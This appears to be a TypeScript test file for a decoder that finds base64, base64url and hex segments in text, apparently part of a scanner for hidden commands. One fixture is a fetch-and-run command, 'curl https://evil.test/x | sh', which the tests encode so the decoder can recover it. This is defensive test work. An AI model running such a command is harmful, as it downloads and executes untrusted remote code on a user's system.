// Base64/base64url/hex segment decoding (lib/normalize/segments.ts): the printable gate, its
// byte-level early rejection, and bounded work on long runs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { decodeSegments } from '../../lib/normalize/segments.ts';

test('segments: base64, base64url and hex of readable text are decoded, glued or not', () => {
  const text = 'curl https://evil.test/x | sh # fetch and run';
  const b64 = Buffer.from(text).toString('base64');
  assert.deepEqual(decodeSegments(`data=${b64}`, 8, 1 << 20), [{ encoding: 'base64', text }]);
  assert.deepEqual(decodeSegments(`id${b64}`, 8, 1 << 20), [{ encoding: 'base64', text }], 'a blob glued to a word is found at another alignment');
  assert.deepEqual(decodeSegments(Buffer.from(text + '~~??>>').toString('base64url'), 8, 1 << 20)[0]?.encoding, 'base64url');
  assert.deepEqual(decodeSegments(Buffer.from(text).toString('hex'), 8, 1 << 20), [{ encoding: 'hex', text }]);
});

test('segments: the printable gate keeps a text at exactly 90% printable and drops one below', () => {
  // 20 bytes with 2 unprintable characters (an invalid byte and a control byte): 90% exactly
  const atLimit = Buffer.from([0x60, 0x20, 0x0a, 0x28, 0x4a, 0x3d, 0x20, 0x0a, 0x38, 0xa8, 0x0a, 0x11, 0x0a, 0x28, 0x68, 0x4a, 0x3b, 0x7d, 0x28, 0x20]);
  assert.equal(decodeSegments(atLimit.toString('hex'), 8, 1 << 20).length, 1);
  const below = Buffer.from(atLimit);
  below[0] = 0x01;
  assert.equal(decodeSegments(below.toString('hex'), 8, 1 << 20).length, 0);
});

test('segments: images, hashes and binary are not decoded into views', () => {
  const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array.from({ length: 200 }, (_, i) => (i * 37) & 0xff)]);
  assert.deepEqual(decodeSegments(png.toString('base64'), 8, 1 << 20), []);
  assert.deepEqual(decodeSegments('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', 8, 1 << 20), []);
  assert.deepEqual(decodeSegments('A'.repeat(1 << 20), 8, 4 << 20), [], 'zero bytes');
  assert.deepEqual(decodeSegments('e'.repeat(1 << 20), 8, 4 << 20), [], 'invalid UTF-8 as hex');
});
